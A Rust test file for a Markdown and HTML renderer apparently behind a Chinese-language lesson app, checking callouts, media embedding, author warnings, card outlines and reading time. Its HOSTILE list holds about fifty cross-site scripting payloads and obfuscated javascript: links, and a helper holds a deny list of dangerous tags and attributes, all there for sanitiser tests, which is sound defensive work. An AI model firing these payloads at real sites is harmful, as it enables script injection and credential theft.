//! What a unit's text becomes, and what it can never become.
#![expect(clippy::unwrap_used, reason = "a test may stop at the first thing that is not there")]

use proptest::{collection::vec, prelude::*, sample::select};

use super::{safe::html_words, *};

const LABELS: Labels = Labels {
    note: "说明",
    tip: "提示",
    warn: "注意",
    todo: "怎么做",
    poll: "投票",
    transcript: "文字稿",
    captions: "字幕",
};

fn media(kind: MediaKind, url: &str) -> Media {
    Media {
        kind,
        url: url.to_owned(),
        captions_url: None,
        captions_language: None,
        transcript: None,
        poster: None,
        size: None,
        seconds: None,
        is_animation: false,
    }
}

fn find(id: &str) -> Option<Media> {
    match id {
        "pic" => Some(Media { size: Some((640, 480)), ..media(MediaKind::Picture, "/m/pic.webp") }),
        "film" => Some(Media {
            captions_url: Some("/m/film.vtt".to_owned()),
            captions_language: Some("zh-CN".to_owned()),
            transcript: Some("先断电。\n再救人 <快>。".to_owned()),
            poster: Some("/m/film.jpg".to_owned()),
            seconds: Some(150),
            ..media(MediaKind::Video, "/m/film.mp4")
        }),
        "sound" => Some(Media { seconds: Some(30), ..media(MediaKind::Audio, "https://cdn.example.cn/a.mp3?a=1&b=2") }),
        "form" => Some(media(MediaKind::File, "/m/form.pdf")),
        _ => None,
    }
}

fn html(markdown: &str) -> String {
    let rendered = render(markdown, &find, &LABELS);
    rendered.html.trim().to_owned()
}

fn warnings(markdown: &str) -> Vec<&'static str> {
    render(markdown, &find, &LABELS).warnings.into_iter().map(|warning| warning.key).collect()
}

#[test]
fn what_authors_write() {
    for (markdown, expected) in [
        ("# 大\n## 中\n###### 小", "<h2>大</h2>\n<h2>中</h2>\n<h6>小</h6>"),
        ("**先** *断* ~~电~~ `K87`", "<p><strong>先</strong> <em>断</em> <del>电</del> <code>K87</code></p>"),
        ("1. 停电\n2. 验电", "<ol>\n<li>停电</li>\n<li>验电</li>\n</ol>"),
        (
            "|甲|乙|\n|-|:-:|\n|1|2|",
            "<table><thead><tr><th>甲</th><th>乙</th></tr></thead><tbody>\n<tr><td>1</td><td>2</td></tr>\n</tbody></table>",
        ),
        ("一行\n---\n二行", "<p>一行</p>\n<hr>\n<p>二行</p>"),
        ("```\n字\n---\n```", "<pre><code>字\n---\n</code></pre>"),
        ("水 H<sub>2</sub>O<br>好", "<p>水 H<sub>2</sub>O<br>好</p>"),
        ("先断电，\n再救人 one\ntwo\n三", "<p>先断电，再救人 one\ntwo\n三</p>"),
        ("> 引用", "<blockquote>\n<p>引用</p>\n</blockquote>"),
    ] {
        assert_eq!(html(markdown), expected, "{markdown}");
    }
}

#[test]
fn call_outs() {
    let title = |class: &str, words: &str| {
        format!("<section class=\"callout {class}\">\n<p class=\"callout-title\">{words}</p>\n")
    };
    for (mark, class, words) in [
        ("NOTE", "note", "说明"),
        ("IMPORTANT", "note", "说明"),
        ("TIP", "tip", "提示"),
        ("WARNING", "warn", "注意"),
        ("CAUTION", "warn", "注意"),
        ("DO", "do todo-block", "怎么做"),
        ("do", "do todo-block", "怎么做"),
        ("做", "do todo-block", "怎么做"),
    ] {
        let expected = format!("{}<p>先断电</p>\n</section>", title(class, words));
        assert_eq!(html(&format!("> [!{mark}]\n> 先断电")), expected, "{mark}");
    }
    let steps = format!(
        "{}\n<ol>\n<li>停电</li>\n<li>验电</li>\n</ol>\n</section>",
        title("do todo-block", "怎么做").trim_end()
    );
    assert_eq!(html("> [!DO]\n>\n> 1. 停电\n> 2. 验电").replace("\n\n", "\n"), steps);
    assert_eq!(html("> [!DO]\n> 1. 停电\n> 2. 验电").replace("\n\n", "\n"), steps);
    assert_eq!(html("> [!OTHER]\n> 甲"), "<blockquote>\n<p>[!OTHER]\n甲</p>\n</blockquote>");
    assert_eq!(html("> [!DO] 甲"), "<blockquote>\n<p>[!DO] 甲</p>\n</blockquote>");
}

#[test]
fn pictures_sounds_and_films() {
    assert_eq!(
        html("看 ![验电器](media:pic) 这里"),
        "<p>看 <img src=\"/m/pic.webp\" alt=\"验电器\" width=\"640\" height=\"480\" loading=\"lazy\" decoding=\"async\"> 这里</p>"
    );
    assert_eq!(
        html("![验电器](media:pic \"手持的\")"),
        "<figure class=\"media picture\"><img src=\"/m/pic.webp\" alt=\"验电器\" width=\"640\" height=\"480\" loading=\"lazy\" \
         decoding=\"async\"><figcaption>手持的</figcaption></figure>"
    );
    assert_eq!(
        html("上\n![演示](media:film)\n下"),
        "<p>上\n</p>\n<figure class=\"media video\"><video controls=\"\" preload=\"metadata\" playsinline=\"\" \
         poster=\"/m/film.jpg\" src=\"/m/film.mp4\"><track kind=\"captions\" src=\"/m/film.vtt\" srclang=\"zh-CN\" label=\"字幕\" \
         default=\"\"></video><figcaption>演示</figcaption></figure><details class=\"transcript\"><summary>文字稿</summary>\
         <p>先断电。<br>再救人 &lt;快&gt;。</p></details>\n<p>\n下</p>"
    );
    assert_eq!(
        html("- ![录音](media:sound)"),
        "<ul>\n<li><figure class=\"media audio\"><audio controls=\"\" preload=\"metadata\" \
         src=\"https://cdn.example.cn/a.mp3?a=1&amp;b=2\"></audio><figcaption>录音</figcaption></figure>\n</li>\n</ul>"
    );
    assert_eq!(html("[表格](media:form)"), "<p><a href=\"/m/form.pdf\" rel=\"noopener noreferrer\">表格</a></p>");
    assert_eq!(html("![表格](media:form)"), html("[表格](media:form)"));
    assert_eq!(html("## 看![演示](media:film)"), "<h2>看演示</h2>");
}

#[test]
fn warnings_for_the_author() {
    for (markdown, expected) in [
        ("![甲](media:pic)", vec![]),
        ("![](media:pic)", vec!["markdown-warning-no-words"]),
        ("![甲](media:gone)", vec!["markdown-warning-unknown-media"]),
        ("![甲](media:sound)", vec!["markdown-warning-no-transcript"]),
        ("# ![甲](media:film)", vec!["markdown-warning-misplaced"]),
        ("![甲](https://example.com/a.png)", vec!["markdown-warning-external"]),
        ("<img src=\"https://example.com/a.png\">", vec!["markdown-warning-external"]),
        ("<video src=\"//example.com/a.mp4\"></video>", vec!["markdown-warning-external"]),
        ("[甲](javascript:alert(1))", vec!["markdown-warning-link"]),
        ("[甲](//example.com)", vec!["markdown-warning-link"]),
        ("[甲](https://example.com) [乙](/learn) [丙](tel:12345) <a@example.com>", vec![]),
    ] {
        assert_eq!(warnings(markdown), expected, "{markdown}");
    }
    let external = &render("![a](https://example.com/a.png)", &find, &LABELS).warnings[0];
    assert_eq!(external.args, [("url", "https://example.com/a.png".to_owned())]);
    assert_eq!(html("![甲](https://example.com/a.png)"), "<p>甲</p>");
    assert_eq!(html("[甲](javascript:alert(1))"), "<p>甲</p>");
    let long = render(&"长".repeat(MAX_BYTES), &find, &LABELS);
    assert_eq!(long.warnings[0].key, "markdown-warning-too-long");
}

#[test]
fn pictures_in_html_questions_come_from_the_library_too() {
    let found =
        clean_html("<p>看 <img src=\"media:pic\" alt=\"图\" onerror=\"x()\"></p><img src=\"media:gone\">", &find);
    assert_eq!(found.html, "<p>看 <img src=\"/m/pic.webp\" alt=\"图\"></p><img>");
    assert_eq!(found.warnings, [Message::new("markdown-warning-unknown-media").with("id", "gone")]);
}

/// Elements and attributes of a piece of HTML as the serialiser writes it: text has no `<`, values stand in quotes.
fn elements(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut elements = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = rest[at + 1..].trim_start_matches('/');
        let end = rest.find([' ', '>']).unwrap();
        let (name, mut inside) = rest.split_at(end);
        let mut attributes = Vec::new();
        while let Some(after) = inside.strip_prefix(' ') {
            let (attribute, value) = after.split_once("=\"").unwrap();
            let (value, after) = value.split_once('"').unwrap();
            attributes.push((attribute.to_owned(), value.to_owned()));
            inside = after;
        }
        rest = inside.strip_prefix('>').unwrap();
        elements.push((name.to_owned(), attributes));
    }
    elements
}

/// That nothing in the HTML can run, load from elsewhere or look like the page around it.
fn assert_harmless(source: &str, html: &str) {
    assert!(!html.to_lowercase().contains("<script"), "{source}\n{html}");
    for (name, attributes) in elements(html) {
        let poison = [
            "script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "base", "link",
            "meta", "h1",
        ];
        assert!(!poison.contains(&name.as_str()), "{source}\n{html}");
        for (attribute, value) in attributes {
            assert!(!attribute.starts_with("on") && attribute != "style" && attribute != "id", "{source}\n{html}");
            let value: String = value.to_lowercase().chars().filter(|c| !c.is_whitespace()).collect();
            if attribute == "src" || attribute == "poster" {
                assert!(value.starts_with("/m/") || value.starts_with("https://cdn.example.cn/"), "{source}\n{html}");
            }
            if attribute == "href" {
                let good =
                    ["http://", "https://", "mailto:", "tel:", "/", "#"].iter().any(|start| value.starts_with(start));
                assert!(good && !value.starts_with("//"), "{source}\n{html}");
            }
            if attribute == "class" {
                assert!(value.bytes().all(|b| b.is_ascii_lowercase() || b == b'-'), "{source}\n{html}");
            }
        }
    }
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example>x</sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "![a\" onerror=\"alert(1)](media:pic)",
    "![\"><script>alert(1)</script>](media:pic)",
    "![a](media:pic \"x\\\" onmouseover=\\\"alert(1)\")",
    "[a](javascript:alert(1))",
    "[a](JaVa\tScRiPt:alert(1))",
    "[a](  javascript&colon;alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](vbscript:x)",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](/\\evil.example)",
    "<javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href='x' onclick='alert(1)'>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg/onload=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html,x\"></object><embed src=x>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<style>*{display:none}</style>",
    "<form action=\"https://evil.example\"><input name=password><button>Go</button></form>",
    "<base href=\"https://evil.example/\"><link rel=stylesheet href=x><meta http-equiv=refresh content=0>",
    "<video src=\"https://evil.example/x.mp4\" autoplay onplay=alert(1) poster=\"https://evil.example/p\"></video>",
    "<video><source src=x onerror=alert(1)></video>",
    "<audio src=\"/m/film.mp4\" onloadstart=alert(1)></audio>",
    "<track src=\"https://evil.example/x.vtt\">",
    "<section class=\"callout note evil\" id=\"main\">x</section>",
    "<div class=\"tabs\" id=\"csrf\">x</div>",
    "<h1>fake page</h1>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<table><td background=\"javascript:alert(1)\">x",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<textarea></p><script>alert(1)</script>",
    "```\"><script>alert(1)</script>\nx\n```",
    "| <img src=x onerror=alert(1)> | b |\n|-|-|\n| <script>x</script> | d |",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "> [!DO]\n> </section></main><script>alert(1)</script>",
    "[x]: javascript:alert(1)\n\n[x] ![x]",
    "<!-- --!><script>alert(1)</script> -->",
    "<xmp><script>alert(1)</script></xmp>",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<a href=\"media:pic\">x</a><img src=\"media:film\">",
];

#[test]
fn hostile_texts_come_out_harmless() {
    for source in HOSTILE {
        assert_harmless(source, &render(source, &find, &LABELS).html);
        assert_harmless(source, &clean_html(source, &find).html);
        let text = crate::question::Text::plain(source).html(&find, &LABELS).html;
        assert_harmless(source, &text);
    }
}

#[test]
fn the_check_for_harm_sees_harm() {
    for bad in ["<p onclick=\"x\">", "<a href=\"javascript:x\">", "<img src=\"x\">", "<svg>", "<p style=\"x\">", "<h1>"]
    {
        assert!(std::panic::catch_unwind(|| assert_harmless("", bad)).is_err(), "{bad}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn nothing_hostile_comes_through(parts in vec(prop_oneof![
        select(HOSTILE.to_vec()).prop_map(str::to_owned),
        select(vec!["\n", "\n\n", " ", "> ", "- ", "# ", "`", "```\n", "*", "[", "](", ")", "<", ">", "\"", "'", "=", "/", "&", "---\n", "|",
            "![x](media:film)", "![x](media:pic \"y\")", "[!DO]", "汉字", "<p ", "<a ", "</", "on", "javascript:", "<!--", "-->", "&lt;", "&#60;"])
            .prop_map(str::to_owned),
        ".{0,12}",
    ], 0..14)) {
        let source = parts.concat();
        assert_harmless(&source, &render(&source, &find, &LABELS).html);
        assert_harmless(&source, &clean_html(&source, &find).html);
        plain_text(&source);
        html_words(&source);
        for card in outline(&source) {
            assert_harmless(&source, &render(&card.markdown, &find, &LABELS).html);
        }
    }
}

#[test]
fn long_nests_end_in_time() {
    for mark in [
        ">",
        "> [!NOTE]\n",
        "[",
        "*a_",
        "<div>",
        "![",
        "- ",
        "`",
        "](",
        "<b><i>",
        "|\n",
        "&",
        "---\n",
        "a\n---\n",
        "[a]: b\n",
    ] {
        let source = mark.repeat(4_000);
        assert_harmless(mark, &render(&source, &find, &LABELS).html);
        assert_harmless(mark, &clean_html(&source, &find).html);
        html_words(&source);
        outline(&source);
    }
}

#[test]
fn a_text_in_cards() {
    let text = "开头\n\n# 题目\n一\n---\n二\n\n## 怎么做\n### 小节\n三 [链接][k]\n\n***\n\n---\n\n> 引用\n> ## 不分\n\n- 列\n\n  ---\n\n[k]: https://example.com\n";
    let cards = outline(text);
    let shown: Vec<_> =
        cards.iter().map(|card| (card.title.as_deref(), card.markdown.split("\n\n[k]:").next().unwrap())).collect();
    assert_eq!(
        shown,
        [
            (None, "开头"),
            (Some("题目"), "# 题目\n一"),
            (None, "二"),
            (Some("怎么做"), "## 怎么做\n### 小节\n三 [链接][k]"),
            (None, "> 引用\n> ## 不分\n\n- 列\n\n  ---"),
        ]
    );
    assert!(html(&cards[3].markdown).contains("<a href=\"https://example.com\""));
    assert_eq!(outline(""), []);
    assert_eq!(outline("---\n\n---"), []);
    assert_eq!(outline("![演示](media:film)").len(), 1);
    assert_eq!(outline(&"# 章\n\n字\n\n".repeat(500)).len(), MAX_CARDS);
}

#[test]
fn how_long_it_takes() {
    let minute = "字".repeat(400);
    let reading_of = |text: &str| reading(text, &find);
    assert_eq!(reading_of(&minute), Reading { characters: 400, words: 0, media_seconds: 0 });
    assert_eq!(reading_of(&minute).seconds(), 60);
    assert_eq!(reading_of(&"word ".repeat(200)).seconds(), 60);
    assert_eq!(reading_of("K87.5 处 don't it's 3.14").words, 4);
    assert_eq!(reading_of(&format!("{minute}\n\n![演示](media:film)")).seconds(), 60 + 150 + 1);
    assert_eq!(reading_of(&minute).guide(), Guide::Short);
    assert_eq!(reading_of(&"字".repeat(1_200)).guide(), Guide::Fits);
    assert_eq!(reading_of(&"字".repeat(3_200)).guide(), Guide::Fits);
    assert_eq!(reading_of(&"字".repeat(3_201)).guide(), Guide::Long);
    assert_eq!((reading_of("").minutes(), reading_of(&"字".repeat(401)).minutes()), (1, 2));
}

#[test]
fn words_for_the_search() {
    let text = "# 触电\n\n先**断电**，再[救人](https://example.com)。\n\n> [!DO]\n> 打 `120`\n\n|甲|乙|\n|-|-|\n|1|2|\n\n![验电器](media:pic)\n\n<b>粗</b> &amp; 细<script>坏</script>";
    assert_eq!(plain_text(text), "触电\n先断电，再救人。\n打 120\n甲 乙\n1 2\n验电器\n粗 & 细坏");
    assert_eq!(
        html_words("<p>甲</p><p>1 &lt; 2 &amp; 3</p><script>坏</script><ul><li>乙&nbsp;丙"),
        "甲 1 < 2 & 3 乙 丙"
    );
    assert_eq!(media_references("![a](media:x-1) media:y_2, media: [b](media:x-1)"), ["x-1", "y_2"]);
}
